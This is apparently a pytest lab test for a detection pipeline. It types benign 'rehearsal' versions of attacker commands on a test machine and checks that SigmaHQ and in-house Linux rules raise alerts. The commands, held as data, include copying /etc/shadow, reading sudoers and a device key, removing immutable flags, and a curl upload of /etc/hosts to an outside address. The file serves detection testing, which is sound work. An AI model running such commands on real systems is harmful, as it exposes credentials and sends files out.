"""A harmless attack rehearsal on a terminal: what is typed there is noticed, by SigmaHQ's rules and by ours.

One rule of every kind whose events a Linux terminal here has. Rules for the audit log (no audit in a container), for
Sysmon for Linux and for servers' programs have no events here.
"""

from __future__ import annotations

import json
from contextlib import suppress
from datetime import UTC, datetime
from typing import Any

import pytest
import yaml

from corpora import RULES, corpora
from prefecture import CHECKOUT, Prefecture, until

pytestmark = [pytest.mark.lab, pytest.mark.slow, corpora]
PC, BESIDE = "pc-0010", "pc-0009"
PATIENCE = 120.0  # seconds for what was typed to be in the store, on a machine that others use too
LINUX = RULES / "rules" / "linux"
THEIRS = {
    "process_creation/proc_creation_lnx_susp_process_reading_sudoers.yml": "cat /etc/sudoers >/dev/null",
    "process_creation/proc_creation_lnx_mkfifo_named_pipe_creation_susp_location.yml": "mkfifo /tmp/rehearsal",
    "process_creation/proc_creation_lnx_susp_curl_fileupload.yml": "curl -m1 -F f=@/etc/hosts https://203.0.113.9 || :",
    "process_creation/proc_creation_lnx_cp_passwd_or_shadow_tmp.yml": "cp /etc/shadow /tmp/rehearsal/; true",
    "process_creation/proc_creation_lnx_chattr_immutable_removal.yml": "chattr -i /tmp/rehearsal; true",
    "builtin/lnx_symlink_etc_passwd.yml": "ln -s /etc/passwd /tmp/rehearsal.link; rm /tmp/rehearsal*",
    "builtin/lnx_clear_syslog.yml": "logger 'rehearsal: rm -f /var/log/syslog'",
    "builtin/sshd/lnx_sshd_susp_ssh.yml": "logger -t sshd 'error: incorrect signature'",
    "builtin/cron/lnx_cron_crontab_file_modification.yml": "logger -t crontab '(rehearsal) REPLACE (rehearsal)'",
    "builtin/clamav/lnx_clamav_relevant_message.yml": "logger -t clamd '/tmp/rehearsal: Unix.Trojan.Rehearsal FOUND'",
    "builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml": "logger 'rehearsal: stopping firewalld'",
}
OURS = {
    "accounts/new_login_account": "useradd --create-home rehearsal; userdel --remove rehearsal",
    "dot1x/device_key_read": "cat /etc/sekisho/device/device.key >/dev/null; true",
}


def alerts(town: Prefecture, since: str) -> list[dict[str, Any]]:
    """What those rules say of everything since a moment that has reached the store by now."""
    town.sekisho("ship", "--once")
    rules = [LINUX / name for name in THEIRS] + [CHECKOUT / "detection_rules" / name for name in OURS]
    words = [word for rule in rules for word in ("--rules", rule)]
    told = town.sekisho("detect", *words, "--store", "--from", since, "--strict", "--json").stdout
    return [json.loads(line) for line in told.splitlines()]


def titles() -> set[str]:
    """What the rules are called."""
    files = [LINUX / name for name in THEIRS] + [CHECKOUT / "detection_rules" / name / "rule.yml" for name in OURS]
    return {yaml.safe_load(file.read_text(encoding="utf-8"))["title"] for file in files}


def test_what_is_typed_on_a_terminal_is_noticed_there_and_only_there(prefecture: Prefecture) -> None:
    since = datetime.now(UTC).isoformat(timespec="seconds")
    for command in (*THEIRS.values(), *OURS.values()):
        prefecture.do(PC, command)
    prefecture.do(
        BESIDE, "cat /etc/hostname; mkdir -p /tmp/harmless; ln -sfn /etc/hostname /tmp/harmless/link; logger -t sshd ok"
    )

    wanted, seen = titles(), set[str]()

    def noticed() -> bool:
        seen.update(one["rule_title"] for one in alerts(prefecture, since))
        return seen >= wanted

    with suppress(AssertionError):
        until(noticed, PATIENCE, "every rule has raised an alert")
    assert wanted - seen == set()
    found = alerts(prefecture, since)
    assert {one["host"] for one in found} == {PC}
    assert all(one["matched"] for one in found)
